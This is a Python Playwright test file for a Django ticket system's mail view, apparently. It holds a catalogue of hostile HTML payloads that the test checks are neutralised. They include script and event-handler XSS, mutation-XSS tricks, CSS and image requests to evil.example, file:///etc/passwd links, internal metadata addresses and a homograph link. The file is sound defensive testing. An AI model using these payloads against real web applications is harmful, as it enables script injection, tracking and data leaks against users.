# ruff: noqa: E501  # payloads stay whole
"""Hostile HTML on the real page in a browser: no script runs, nothing is requested (B30–B47, T2, T21, W8)."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

import pytest
from django.conf import settings
from playwright.sync_api import BrowserContext, Page, Route, sync_playwright

from tests.browser.conftest import ARGUMENTS, CHROMIUM
from tests.tickets_pages.conftest import letter, office, receive, signed_in  # noqa: F401  # fixtures
from tests.tickets_pages.mails import html_letter

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

HIT = "top.__hit=1;console.log('HIT')"
EVIL = "https://evil.example"
SVG = base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{HIT}\"/>".encode()).decode()

ATTACKS = {
    "B30 script": f"<script>{HIT}</script><script src={EVIL}/x.js></script>",
    "B30 onerror": f'<img src=x onerror="{HIT}"><video><source onerror="{HIT}"></video><audio src onerror="{HIT}">',
    "B30 events": f'<details open ontoggle="{HIT}">x</details><p onmouseover="{HIT}">x</p><body onload="{HIT}">',
    "B30 focus": f'<input autofocus onfocus="{HIT}"><select autofocus onfocus="{HIT}"><a tabindex=0 autofocus onfocus="{HIT}">x</a>',
    "B30 animation": f'<style>@keyframes x{{}}</style><p style="animation:x" onanimationstart="{HIT}">x</p>',
    "B31 javascript": f'<a id=link href="java&#9;script:{HIT}">x</a><a href=" &#1;javascript:{HIT}">x</a><a href="vbscript:{HIT}">x</a>',
    "B31 data": f'<a href="data:text/html,<script>{HIT}</script>">x</a><img src="data:image/svg+xml;base64,{SVG}">',
    "B32 svg": f'<svg onload="{HIT}"><animate xlink:href=#a attributeName=href values="javascript:{HIT}" /><a id=a><text>x</text></a></svg>',
    "B32 use": f'<svg><use href="data:image/svg+xml;base64,{SVG}#x"/><image href="{EVIL}/i.png"/><script>{HIT}</script></svg>',
    "B33 mathml": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={HIT}&gt;">',
    "B33 annotation": f'<math><annotation-xml encoding="text/html"><script>{HIT}</script></annotation-xml></math>',
    "B34 noscript": f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    "B34 textarea": f'<textarea><img title="</textarea><img src=x onerror={HIT}>"></textarea><title><img title="</title><img src=x onerror={HIT}>">',
    "B35 nested": f"<scr<script>ipt>{HIT}</scr</script>ipt><<script>script>{HIT}//<</script>/script>",
    "B36 base": f'<base href="{EVIL}/"><img src="x.png"><link rel=icon href="y.ico">',
    "B36 refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/r">',
    "B36 form": f'<form action="{EVIL}/f"><input name=a value=b><button autofocus>x</button></form><button formaction="javascript:{HIT}">x</button>',
    "B36 frames": f'<iframe src="{EVIL}/i"></iframe><iframe srcdoc="<script>{HIT}</script>"></iframe><object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
    "B37 import": f'<style>@import url("{EVIL}/c.css");body:has(p){{background:url({EVIL}/b)}}input[value^=a]{{background:url({EVIL}/a)}}</style><p>x</p>',
    "B38 css": f'<p style="background:url({EVIL}/1);background:u\\72l({EVIL}/2);--x:url({EVIL}/3);content:var(--x)">x</p><div style="background:url({EVIL}/4',
    "B39 attributes": f'<body background="{EVIL}/1"><table background="{EVIL}/2"><td background="{EVIL}/3">x</table><img srcset="{EVIL}/4 1x"><video poster="{EVIL}/5"></video>',
    "B39 link": f'<link rel=stylesheet href="{EVIL}/1.css"><link rel=preload as=image href="{EVIL}/2"><link rel=dns-prefetch href=//evil.example>',
    "B39 sources": f'<picture><source srcset="{EVIL}/1"><img src="{EVIL}/2"></picture><audio src="{EVIL}/3" autoplay></audio><input type=image src="{EVIL}/4"><svg><filter><feImage href="{EVIL}/5"/></filter></svg>',
    "B40 overlay": '<div style="position:fixed!important;inset:0;z-index:99999;background:red"><a href="https://evil.example">x</a></div>',
    "B41 clobbering": "<form id=htmx><input id=config name=body></form><a id=document name=location href=x>x</a><img name=getElementById>",
    "B42 pixel": f'<img src="{EVIL}/p.gif" width=1 height=1><img src="//evil.example/q.gif"><img src="\\\\evil.example\\r.gif">',
    "B43 cid": '<img src="cid:unknown@x"><img src="CID:%00">',
    "B44 files": '<img src="file:///etc/passwd"><img src="php://filter/resource=x"><a href="file:///etc/passwd">x</a>',
    "B45 inside": "".join(
        f'<img src="http://{host}/">'
        for host in (
            "169.254.169.254",
            "127.1",
            "2130706433",
            "[::ffff:7f00:1]",
            "127.0.0.1.nip.io",
            "100.64.0.1",
        )
    ),
    "B46 split": f'<p>vorher</p><img src="{EVIL}/',
    "B47 homograph": '<a href="https://xn--pypal-4ve.example/">https://paypal.example</a>',
    "T3 own files": '<script src="/static/app.js"></script><link rel=stylesheet href="/static/app.css"><img src="/logout/">',
}


@dataclass
class Watch:
    """What a page did that it should not have done."""

    home: str
    hits: list[str] = field(default_factory=list)

    def on(self, context: BrowserContext, page: Page) -> None:
        context.route("**/*", self._request)
        context.on("page", lambda _page: self.hits.append("popup"))
        page.on("console", lambda message: self._console(message.text))
        page.on("dialog", lambda dialog: (self.hits.append("dialog"), dialog.dismiss()))
        page.on("pageerror", lambda error: self.hits.append(f"error {error}"))

    def _request(self, route: Route) -> None:
        url = route.request.url
        if url.startswith(f"{self.home}/") and "/logout/" not in url:
            route.continue_()
        else:
            self.hits.append(f"request {url}")
            route.abort()

    def _console(self, text: str) -> None:
        if "HIT" in text or "script" in text.lower():
            self.hits.append(f"console {text[:200]}")


@contextmanager
def chromium(home: str, session: str = "") -> Iterator[tuple[Page, Watch]]:
    watch = Watch(home)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        # Tall, so that frames below the fold load as well.
        context = browser.new_context(viewport={"width": 1440, "height": 3000})
        if session:
            context.add_cookies([{"name": settings.SESSION_COOKIE_NAME, "value": session, "url": home}])
        page = context.new_page()
        watch.on(context, page)
        try:
            yield page, watch
        finally:
            browser.close()


def session_of(user) -> str:
    return signed_in(user).cookies[settings.SESSION_COOKIE_NAME].value


def open_mail(page: Page, url: str) -> None:
    page.goto(url)
    page.wait_for_function("document.querySelector('iframe').contentDocument.readyState === 'complete'")
    page.wait_for_load_state("networkidle")


def test_t2_t3_t21_b30_b47_hostile_mail_runs_no_script_and_requests_nothing(live_server, office, receive):  # noqa: F811  # fixtures
    tickets = {
        case: receive(html_letter(f"<p>Guten Tag</p>{html}<p>Ende</p>")).ticket
        for case, html in ATTACKS.items()
    }
    did: dict[str, list[str]] = {}
    with chromium(live_server.url, session_of(office.agent)) as (page, watch):
        for case, ticket in tickets.items():
            url = f"{live_server.url}{ticket.get_absolute_url()}"
            open_mail(page, url)
            if page.evaluate("window.__hit") or page.url != url:
                watch.hits.append("script ran or page left")
            if watch.hits:
                did[case] = list(watch.hits)
                watch.hits.clear()

    assert did == {}


def test_t2_w8_b30_even_unsanitised_markup_runs_nothing_in_the_frame(
    live_server,
    office,  # noqa: F811  # a fixture
    receive,  # noqa: F811  # a fixture
    monkeypatch,
):
    """The sandbox and the policies hold by themselves, should the sanitiser ever miss something."""
    monkeypatch.setattr("tickets.rendering.sanitize_html", lambda html, **_options: html)
    ticket = receive(
        html_letter(
            "".join(ATTACKS[case] for case in ("B30 script", "B30 onerror", "B42 pixel", "B37 import"))
        )
    ).ticket
    with chromium(live_server.url, session_of(office.agent)) as (page, watch):
        open_mail(page, f"{live_server.url}{ticket.get_absolute_url()}")
        ran = page.evaluate("window.__hit")

    assert not ran
    assert not [hit for hit in watch.hits if hit.startswith(("request", "dialog")) or "HIT" in hit]


def test_t21_b42_pictures_come_when_asked_for_and_scripts_still_do_not(live_server, office, receive):  # noqa: F811  # fixtures
    message = receive(
        html_letter(f"<p>x</p><img src='{EVIL}/p.png' onerror=\"{HIT}\"><script>{HIT}</script>")
    )
    with chromium(live_server.url, session_of(office.agent)) as (page, watch):
        open_mail(page, f"{live_server.url}{message.ticket.get_absolute_url()}")
        assert watch.hits == []
        page.get_by_role("link", name="laden").or_(page.get_by_role("link", name="Load pictures")).click()
        page.wait_for_load_state("networkidle")
        ran = page.evaluate("window.__hit")

    assert not ran
    assert watch.hits == [f"request {EVIL}/p.png"]


def test_b40_a_mail_stays_in_its_frame_which_grows_with_it(live_server, office, receive):  # noqa: F811  # fixtures
    long = receive(html_letter("<p>Zeile</p>" * 80 + ATTACKS["B40 overlay"])).ticket
    short = receive(html_letter("<p>Eine Zeile</p>", subject="Kurz")).ticket
    heights = {}
    with chromium(live_server.url, session_of(office.agent)) as (page, _watch):
        for ticket in (long, short):
            open_mail(page, f"{live_server.url}{ticket.get_absolute_url()}")
            heights[ticket.pk] = page.locator("iframe").bounding_box()["height"]
        inside = page.evaluate(
            "document.querySelector('iframe').contentDocument.documentElement.offsetHeight"
        )

    assert heights[long.pk] > 1500
    assert inside <= heights[short.pk] < 100


def test_the_watch_itself_notices_scripts_and_requests(live_server):
    with chromium(live_server.url) as (page, watch):
        page.set_content(f"{ATTACKS['B30 script']}<img src='{EVIL}/p.gif'><p>x</p>")
        page.wait_for_load_state("networkidle")
        ran = page.evaluate("window.__hit")

    assert ran
    assert any("HIT" in hit for hit in watch.hits)
    assert any(f"{EVIL}/p.gif" in hit for hit in watch.hits)


def test_plain_text_needs_no_frame(live_server, office, receive):  # noqa: F811  # fixtures
    ticket = receive(letter(f"<script>{HIT}</script> {EVIL}/x")).ticket
    with chromium(live_server.url, session_of(office.agent)) as (page, watch):
        page.goto(f"{live_server.url}{ticket.get_absolute_url()}")
        page.wait_for_load_state("networkidle")
        text = page.locator(".message__text").first.inner_text()

    assert "<script>" in text
    assert watch.hits == []
